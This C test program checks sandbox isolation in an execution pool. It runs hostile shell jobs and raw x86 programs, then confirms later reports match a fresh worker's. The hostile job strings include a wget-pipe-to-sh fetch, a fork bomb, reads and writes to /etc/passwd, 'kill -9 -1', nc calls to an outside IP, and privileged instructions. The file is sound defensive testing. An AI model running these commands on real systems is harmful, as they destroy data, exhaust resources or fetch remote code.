/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A job after a hostile one gives the same report, byte for byte, as in a fresh worker; a worker killed from outside is
 * replaced by one that gives it too. With the real konseki-emu.
 * usage: again KONSEKI-EMU CONFIG
 */
#include "control/queue/pool.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { PROBE_ID = 1, HOSTILE_ID = 2 };

static const char *const probes[] = {
	"id; echo $$ $PPID $RANDOM; date; echo x > /tmp/probe; ls -la /tmp /; env; cat /etc/passwd",
	"wget http://203.0.113.9/x -O- | sh; ping -c1 198.51.100.7; sleep 3; echo slept",
	"for i in 1 2 3 4; do (echo $i | md5sum) & done; wait; head -c 8 /dev/urandom | base64",
};

static const char *const hostiles[] = {
	"echo evil > /tmp/probe; echo evil >> /etc/passwd; cd /; umask 777; export PATH=/tmp; kill -9 $$",
	"trap '' 1 2 3 15; mkdir -p /tmp/a/b/c; ln -s / /tmp/root; mkfifo /tmp/f; sleep 1000",
	"while :; do :; done",
	"f() { f | f & }; f",
	"yes > /tmp/full",
	"x=x; while :; do x=$x$x; done",
	"i=0; while [ $i -lt 100 ]; do (sleep 9 &) ; i=$((i+1)); done; kill -9 -1",
	"echo | (exec 3<>/tmp/z; while echo zzzzzzzzzzzzzzzz >&3; do :; done)",
	"yes | cat | cat | cat",
	"x=x; while :; do nc 203.0.113.9 99 & done", "exec 200>/tmp/x 1000>/tmp/y; ln /etc/passwd /tmp/z",
	"kill -SEGV $$", "kill -STOP $$", "exec /etc/passwd", "exec 0<&- 1>&- 2>&-; id",
	"printf '\\177ELF\\002\\001\\001\\000garbage' > /tmp/e; chmod 755 /tmp/e; /tmp/e; echo $?",
};

static int ask(struct pool *pool, const char *code, uint64_t id, struct answer *ret)
{
	const struct job j = { .id = id, .language = LANGUAGE_SHELL, .code = bytes_text(code), .runs = true, .seed = 99 };

	return pool_ask(pool, &j, UINT64_C(90000000000), ret);
}

/* The report without the times of the host, as bytes; the caller frees. */
static uint8_t *told(const struct report *r, struct bytes *ret)
{
	static struct run runs[REPORT_RUNS_MAX];
	uint8_t *raw = malloc(REPORT_MAX);
	struct sink s = sink_over(raw, raw != NULL ? REPORT_MAX : 0);
	struct report bare = *r;

	for (uint32_t i = 0; i < r->runs_count; i++) {
		runs[i] = r->runs[i];
		runs[i].host_ns = 0;
	}
	bare.host_ns = 0;
	bare.runs = runs;
	report_encode(&s, &bare);
	if (sink_done(&s, ret) < 0) {
		fprintf(stderr, "a report is too long\n");
		exit(3);
	}
	return raw;
}

/* Asks the probe and compares with want (left == 0: becomes it). 0: the same. */
static int probe(struct pool *pool, unsigned which, struct bytes *want, const char *after)
{
	struct bytes got = { 0 };
	struct answer a;
	uint8_t *raw;
	int r = ask(pool, probes[which], PROBE_ID, &a);

	if (r < 0) {
		fprintf(stderr, "no answer after: %s: %s\n", after, strerror(-r));
		return 1;
	}
	raw = told(a.report, &got);
	r = a.report->stopped_by != STOPPED_EXIT || (want->left > 0 && !bytes_equal(got, *want));
	if (r != 0)
		fprintf(stderr, "DIFFERS (%s) after: %s\n  probe: %s\n", stopped_by_name(a.report->stopped_by), after,
		        probes[which]);
	if (want->left == 0)
		*want = got;
	else
		free(raw);
	answer_free(&a);
	return r;
}

/* Code alone, as a program: what the translator dies of, what reaches for the machine itself, what writes over itself. */
static const struct { const char *name; uint8_t code[16]; } programs[] = {
	{ "call through a register's far form", { 0xff, 0xd8 } }, { "jump through one", { 0xff, 0xe8 } },
	{ "lock cmp", { 0xf0, 0x38 } }, { "lock cmps", { 0xf0, 0xa6 } }, { "lgdt", { 0x0f, 0x01, 0x10 } },
	{ "mov to cr3", { 0x0f, 0x22, 0xd8 } }, { "mov to cr4", { 0x31, 0xc0, 0x0f, 0x22, 0xe0 } },
	{ "segments", { 0x66, 0xb8, 0x23, 0, 0x8e, 0xd8, 0x8e, 0xc0, 0x8e, 0xe0, 0x8e, 0xe8, 0xeb, 0xfe } },
	{ "flags", { 0x9c, 0x48, 0xc7, 0x04, 0x24, 0, 0x47, 0x7f, 0, 0x9d, 0xeb, 0xfe } },
	{ "sysret", { 0x48, 0x0f, 0x07 } }, { "a jump to itself", { 0xeb, 0xfe } },
};

static struct bytes program_of(const uint8_t code[16], uint8_t raw[136])
{
	static const uint8_t head[120] = {
		0x7f, 'E', 'L', 'F', 2, 1, 1, [16] = 2, [18] = 62, [20] = 1, [24] = 0x78, [26] = 0x40, [32] = 64, [52] = 64,
		[54] = 56, [56] = 1, [64] = 1, [68] = 7, [82] = 0x40, [90] = 0x40, [96] = 136, [104] = 136, [113] = 0x10,
	};

	memcpy(raw, head, sizeof(head));
	memcpy(raw + sizeof(head), code, 16);
	return bytes_of(raw, 136);
}

static int hostile_program(struct pool *pool, unsigned which)
{
	uint8_t raw[136];
	const struct job j = { .id = HOSTILE_ID, .language = LANGUAGE_ELF, .code = program_of(programs[which].code, raw),
		.runs = true, .seed = 99 };
	struct answer a;

	if (pool_ask(pool, &j, UINT64_C(90000000000), &a) < 0) {
		fprintf(stderr, "no answer to: %s\n", programs[which].name);
		return 1;
	}
	printf("%-14s %8.1f ms  %s\n", stopped_by_name(a.report->stopped_by), (double)a.report->host_ns / 1e6,
	       programs[which].name);
	answer_free(&a);
	return 0;
}

static int hostile(struct pool *pool, const char *code)
{
	struct answer a;
	int r = ask(pool, code, HOSTILE_ID, &a);

	if (r < 0) {
		fprintf(stderr, "no answer to: %s: %s\n", code, strerror(-r));
		return 1;
	}
	printf("%-14s %8.1f ms  %s\n", stopped_by_name(a.report->stopped_by), (double)a.report->host_ns / 1e6, code);
	answer_free(&a);
	return 0;
}

int main(int argc, char **argv)
{
	struct bytes want[COUNT_OF(probes)] = { 0 };
	struct pool *pool = NULL;
	int failures = 0;

	if (argc != 3)
		return 2;
	for (unsigned p = 0; p < COUNT_OF(probes); p++) { /* each in a worker that served nobody before */
		if (pool_start(argv[1], argv[2], 1, &pool) < 0)
			return 3;
		failures += probe(pool, p, &want[p], "nothing");
		pool_close(pool);
	}
	if (pool_start(argv[1], argv[2], 1, &pool) < 0)
		return 3;
	for (unsigned h = 0; h < COUNT_OF(hostiles) && failures == 0; h++) {
		for (unsigned p = 0; p < COUNT_OF(probes); p++) {
			failures += p == 0 ? hostile(pool, hostiles[h]) : 0;
			failures += probe(pool, p, &want[p], hostiles[h]);
		}
	}
	for (unsigned h = 0; h < COUNT_OF(programs) && failures == 0; h++) {
		failures += hostile_program(pool, h);
		failures += probe(pool, 0, &want[0], programs[h].name);
	}
	kill(pool_worker_pid(pool, 0), SIGKILL);
	if (failures == 0 && hostile(pool, "id") == 0) /* this one may have met the death */
		failures += probe(pool, 0, &want[0], "SIGKILL from outside");
	pool_close(pool);
	for (unsigned p = 0; p < COUNT_OF(probes); p++)
		free((uint8_t *)(uintptr_t)want[p].at);
	printf("%d failures\n", failures);
	return failures > 0;
}
